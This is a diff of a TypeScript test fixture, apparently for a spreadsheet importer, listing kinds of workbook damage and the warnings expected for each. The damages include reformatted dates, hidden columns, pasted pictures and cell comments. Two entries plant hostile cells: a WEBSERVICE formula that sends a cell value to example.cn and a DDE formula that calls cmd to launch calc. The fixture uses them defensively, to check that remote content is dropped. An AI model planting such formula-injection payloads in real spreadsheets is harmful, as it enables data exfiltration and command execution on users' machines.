@@ -26,7 +26,7 @@ export const accepted: readonly Damage[] = [
     told: ["sheet-renamed"],
   },
   { what: "two columns exchanged", build: () => laid("任务自评", swapped), told: ["columns-moved"] },
-  { what: "a column put in before the others", build: () => laid("任务自评", columnBefore), told: [] },
+  { what: "a column put in before the others", build: () => laid("任务自评", columnBefore), told: ["cells-beside"] },
   {
     what: "empty rows put in between",
     build: () =>
@@ -93,6 +93,37 @@ export const accepted: readonly Damage[] = [
     told: ["repaired-date"],
   },
   { what: "a date without marks", build: () => typed(["佐证材料", 0, "日期", 20260305]), told: ["repaired-date"] },
+  ...["2026-3-5 10:30", "2026/3/5 1:30:00", "2026-03-05T00:00:00"].map((got): Damage => ({
+    what: `a date with its hour, ${got}`,
+    build: () => typed(["佐证材料", 0, "日期", got]),
+    told: ["repaired-date"],
+  })),
+  {
+    what: "a document's number that a spreadsheet took for a day",
+    build: () =>
+      parts((all) => {
+        edit("xl/styles.xml", "</cellXfs>", '<xf numFmtId="14" fontId="0" fillId="0" borderId="0"/></cellXfs>')(all);
+        const format = /<cellXfs count="(\d+)"/u.exec(all["xl/styles.xml"] ?? "")?.[1] ?? "";
+        edit(partOf("佐证材料"), /<c r="C4"[^>]*>.*?<\/c>/u, `<c r="C4" s="${format}"><v>46082</v></c>`)(all);
+      }),
+    told: ["repaired-date"],
+    says: "other",
+  },
+  {
+    what: "a column hidden",
+    build: () => parts(edit(tasks, /(<col min="7" max="7")/u, '$1 hidden="1"')),
+    told: ["columns-hidden"],
+  },
+  {
+    what: "pictures pasted in",
+    build: () => parts(added("xl/media/image1.png")),
+    told: ["content-dropped-pictures"],
+  },
+  {
+    what: "comments on cells",
+    build: () => parts(added("xl/comments1.xml", "<comments/>")),
+    told: ["content-dropped-remarks"],
+  },
   {
     what: "days counted from 1904",
     build: () =>
@@ -156,7 +187,7 @@ export const accepted: readonly Damage[] = [
     what: "notes beside the table",
     build: () =>
       parts(edit(tasks, /(<row r="4".*?)<\/row>/u, '$1<c r="Z4" t="inlineStr"><is><t>复核过</t></is></c></row>')),
-    told: [],
+    told: ["cells-beside"],
   },
   {
     what: "a line of totals below the table",
@@ -198,13 +229,13 @@ export const accepted: readonly Damage[] = [
           '$1<c r="Z4"><f>WEBSERVICE("http://example.cn/"&amp;G4)</f><v>0</v></c></row>',
         ),
       ),
-    told: ["content-dropped-remote"],
+    told: ["content-dropped-remote", "cells-beside"],
   },
   {
     what: "a formula of the DDE kind",
     build: () =>
       parts(edit(tasks, /(<row r="4".*?)<\/row>/u, "$1<c r=\"Z4\"><f>cmd|'/C calc'!A0</f><v>0</v></c></row>")),
-    told: ["content-dropped-remote"],
+    told: ["content-dropped-remote", "cells-beside"],
   },
   {
     what: "the hidden sheet lost",
